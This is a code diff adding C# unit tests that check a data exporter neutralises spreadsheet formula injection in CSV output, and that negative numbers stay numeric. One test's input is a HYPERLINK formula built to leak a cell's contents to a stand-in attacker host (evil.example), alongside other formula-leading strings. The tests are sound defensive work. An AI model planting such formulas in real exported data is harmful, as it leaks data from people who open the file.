@@ -174,6 +174,57 @@ public class ExportFormatTests
         Assert.Contains(",\"He said \"\"wait\"\", then left.\",", valuesText, StringComparison.Ordinal);
     }
 
+    [Fact]
+    public async Task A_formula_title_is_quoted_text_in_csv_and_verbatim_in_json_graphml_and_mai()
+    {
+        const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        var values = new[] { "a", "b" }.Select(id => Value(id, $"author-{id}")).ToList();
+        values[0] = values[0] with { Title = formula, Description = "+1 if you agree", Policies = ["@SUM(A1:A9) moments", "-2 CHOICES"] };
+        values[1] = values[1] with { Title = "\t=1+1", Description = "\r=1+1 then more" };
+        var input = ExportFormats.Prepare(new MoralGraphSnapshot(Study(), values, Votes(3, "a", "b").ToList()), new DefaultProfile(), null);
+
+        var valuesCsv = await CsvTableAsync(input, "values.csv");
+        Assert.Contains("a,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",'+1 if you agree,'@SUM(A1:A9) moments | -2 CHOICES,", valuesCsv, StringComparison.Ordinal);
+        Assert.Contains("b,'\t=1+1,\"'\r=1+1 then more\",", valuesCsv, StringComparison.Ordinal);
+
+        var json = JsonNode.Parse(await WriteAsync("json", input))!["values"]!.AsArray();
+        Assert.Equal(formula, ValueNamed(json, "a")["title"]!.GetValue<string>());
+        Assert.Equal("+1 if you agree", ValueNamed(json, "a")["description"]!.GetValue<string>());
+        Assert.Equal(["@SUM(A1:A9) moments", "-2 CHOICES"], ValueNamed(json, "a")["policies"]!.AsArray().Select(p => p!.GetValue<string>()));
+        var mai = JsonNode.Parse(await WriteAsync("mai", input))!["values"]!.AsArray();
+        Assert.Equal(formula, ValueNamed(mai, "a")["title"]!.GetValue<string>());
+        Assert.Equal("\t=1+1", ValueNamed(mai, "b")["title"]!.GetValue<string>());
+        XNamespace ns = "http://graphml.graphdrawing.org/xmlns";
+        var graphml = XDocument.Load(new MemoryStream(await WriteAsync("graphml", input)));
+        var node = graphml.Descendants(ns + "node").Single(n => n.Attribute("id")!.Value == "a");
+        Assert.Equal(formula, node.Elements(ns + "data").First().Value);
+    }
+
+    [Fact]
+    public async Task Numbers_the_csv_writes_itself_stay_numbers_even_when_negative()
+    {
+        var input = Input();
+        var first = input.Spec.Graphs[0];
+        var lowered = first with { Ranking = [first.Ranking[0] with { Score = -0.125, ScoreLow = -0.5 }, .. first.Ranking.Skip(1)] };
+        input = input with { Spec = input.Spec with { Graphs = [lowered, .. input.Spec.Graphs.Skip(1)] } };
+
+        var rankings = (await CsvTableAsync(input, "rankings.csv")).Split("\r\n");
+
+        var row = rankings[1].Split(',');
+        Assert.Equal(first.Ranking[0].ValueId, row[2]);
+        Assert.Equal("-0.125", row[4]);
+        Assert.Equal("-0.5", row[6]);
+    }
+
+    private static JsonNode ValueNamed(JsonArray values, string id) => values.Single(v => v!["id"]!.ToString() == id)!;
+
+    private static async Task<string> CsvTableAsync(ExportInput input, string table)
+    {
+        using var zip = new ZipArchive(new MemoryStream(await WriteAsync("csv", input)));
+        using var reader = new StreamReader(zip.GetEntry(table)!.Open());
+        return await reader.ReadToEndAsync();
+    }
+
     [Theory]
     [InlineData("graphml")]
     [InlineData("csv")]
